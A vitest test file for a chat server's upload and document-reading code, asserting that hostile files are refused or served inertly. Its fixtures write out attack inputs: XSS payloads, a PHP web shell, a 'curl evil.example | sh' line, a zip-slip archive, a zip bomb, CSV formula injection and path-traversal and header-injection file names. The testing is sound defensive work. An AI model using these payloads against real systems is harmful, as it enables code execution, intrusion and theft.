import { randomBytes } from "node:crypto";
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readDocument } from "../../server/knowledge/reading/read-document";
import { chatServer, fiveSteps, type Published, publish, type Visitor, visit } from "../support/chat-server";

/** T-19, B-40: what people send as files, to visitors' uploads and to the knowledge. */
const folder = mkdtempSync(path.join(tmpdir(), "parley-uploads-"));
const server = chatServer({ environment: { PARLEY_DATA_DIR: folder, PARLEY_RATE_LIMITS: "off" } });
let flow: Published;
let visitor: Visitor;
beforeAll(async () => {
  flow = await publish(server.database.pools, fiveSteps);
  visitor = await visit(server, flow);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const GIF_SCRIPT = Buffer.from("GIF89a/*<svg onload=alert(1)>*/=1;alert(document.cookie)");
const PDF_SCRIPT = Buffer.from(
  "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>",
);
const ZIP = Buffer.from(
  zipSync({ "word/../../../../etc/passwd": new Uint8Array([1]), "a.txt": new Uint8Array([2]) }),
);
const BOMB = Buffer.from(zipSync({ "word/document.xml": new Uint8Array(80_000_000) }, { level: 9 }));

async function put(content: Buffer | string, name: string) {
  const form = new FormData();
  form.append("file", new Blob([typeof content === "string" ? content : new Uint8Array(content)]), name);
  const response = await fetch(`${server.url}/v1/chat/conversations/${visitor.conversation}/files`, {
    method: "POST",
    body: form,
    headers: { authorization: `Bearer ${visitor.token}` },
  });
  const text = await response.text();
  return {
    status: response.status,
    file: JSON.parse(text).file as { url: string; name: string; mime: string } | undefined,
  };
}

const REFUSED: readonly [what: string, content: Buffer | string, name: string][] = [
  ["a drawing with a script", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.svg"],
  ["a drawing called a picture", '<?xml version="1.0"?><svg><script>alert(1)</script></svg>', "a.png"],
  ["a drawing behind white space", "\n\n   <svg/onload=alert(1)>", "a.txt"],
  ["a page called a picture", "<html><script>alert(1)</script></html>", "a.png"],
  ["a page in capitals", "<!DOCTYPE HTML><BODY ONLOAD=alert(1)>", "a.jpg"],
  ["a frame", "hello <iframe src=javascript:alert(1)>", "a.txt"],
  ["a script alone", "<script>alert(1)</script>", "a.csv"],
  ["PHP called a picture", "<?php system($_GET['c']); ?>", "a.php%00.png"],
  ["a program of Linux", "\u007fELF\u0002\u0001\u0001\u0000", "a.png"],
  ["a program of Windows", Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]), "a.pdf"],
  ["a shell script", "#!/bin/sh\ncurl evil.example | sh", "a.txt"],
  ["a class of Java", Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), "a.jpg"],
  ["nothing", "", "a.png"],
  ["zeros", Buffer.alloc(1_000), "a.png"],
  ["noise", Buffer.concat([Buffer.from([0]), randomBytes(500)]), "a.mp4"],
  ["half a picture's mark", PNG.subarray(0, 7), "a.png"],
];

const TAKEN: readonly [
  what: string,
  content: Buffer | string,
  name: string,
  mime: string,
  inline: boolean,
][] = [
  ["a picture", PNG, "a.png", "image/png", true],
  ["a picture called a page", PNG, "a.html", "image/png", true],
  ["a picture called a program", PNG, "invoice.pdf.exe", "image/png", true],
  [
    "a picture with a page behind it",
    Buffer.concat([PNG, Buffer.from("<html><script>alert(1)</script>")]),
    "a.html",
    "image/png",
    true,
  ],
  ["a moving picture that is a script too", GIF_SCRIPT, "a.js", "image/gif", true],
  ["a PDF with a script", PDF_SCRIPT, "a.pdf", "application/pdf", false],
  [
    "an archive that leads upwards",
    ZIP,
    "a.docx",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    false,
  ],
  ["an archive that grows", BOMB, "a.zip", "application/zip", false],
  ["text", "a,b\n=cmd|' /C calc'!A0,2", "a.csv", "text/csv", false],
];

const NAMES: readonly [given: string, kept: RegExp][] = [
  ["../../x.png", /^x\.png$/],
  ["..\\..\\windows\\system32\\x.png", /^[^/\\]*x\.png$/],
  ["/etc/passwd.png", /^passwd\.png$/],
  ["con.png", /^con\.png$/],
  [`${"a".repeat(300)}.png`, /^a{100,116}\.png$/],
  ["a\u202egnp.exe\u0000.png", /^[^\u202e\u0000]*$/],
  ["a\r\nset-cookie: x=1.png", /^[^\r\n]*$/],
  ["....", /^[^.].*$/],
  ['"><img src=x>.png', /^[^<>"]*$/],
];

describe("T-19, B-40 visitors' files", () => {
  test.each(REFUSED)("%s is not taken", async (_what, content, name) => {
    expect((await put(content, name)).status).toBe(415);
  });

  test.each(TAKEN)(
    "%s is what its bytes say, and nothing of it runs",
    async (_what, content, name, mime, inline) => {
      const { status, file } = await put(content, name);
      expect(status).toBe(201);
      expect(file?.mime).toBe(mime);
      const got = await fetch(server.url + file?.url);
      await got.arrayBuffer();
      expect(got.headers.get("content-type")).toMatch(new RegExp(`^${mime.replaceAll(/[.+]/g, "\\$&")}`));
      expect(got.headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
      expect(got.headers.get("x-content-type-options")).toBe("nosniff");
      expect(got.headers.get("content-disposition")).toMatch(inline ? /^inline/ : /^attachment/);
    },
  );

  test.each(NAMES)("the name %j leads nowhere", async (given, kept) => {
    const { status, file } = await put(PNG, given);
    expect(status).toBe(201);
    expect(file?.name).toMatch(kept);
    expect(file?.url).toMatch(/^\/files\/[\w-]+\.png$/);
  });

  test("all of them lie in the one folder, under names of ours", () => {
    const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((one) => one.isFile());
    expect(files.length).toBeGreaterThan(10);
    for (const file of files) expect(file.name).toMatch(/^[\w-]+\.[a-z0-9]{2,4}$/);
  });
});

describe("T-19, B-40 files for the knowledge", () => {
  test.each([
    ["a drawing called a PDF", Buffer.from("<svg onload=alert(1)>"), "a.pdf"],
    ["a picture called a workbook", PNG, "a.xlsx"],
    ["nothing", Buffer.alloc(0), "a.docx"],
    ["a program", Buffer.from([0x4d, 0x5a, 0x90, 0]), "a.exe"],
    ["an archive that grows without end", BOMB, "a.docx"],
    ["an archive that leads upwards", ZIP, "a.docx"],
  ])("%s is not read", async (_what, bytes, name) => {
    await expect(readDocument(name, new Uint8Array(bytes))).rejects.toMatchObject({ name: "UnreadableFile" });
  });

  test("nothing of a page runs or stays but its words", async () => {
    const page = Buffer.from(
      '<h1>Prices</h1><script>fetch("http://evil.example")</script><p onclick="x()">Tea is 5 euros.</p><iframe src="http://10.0.0.1"></iframe><img src=x onerror=alert(1)>',
    );
    const { markdown } = await readDocument("a.html", new Uint8Array(page));
    expect(markdown).toContain("Tea is 5 euros.");
    expect(markdown).not.toMatch(/script|evil|onclick|onerror|iframe|10\.0\.0\.1/);
  });
});
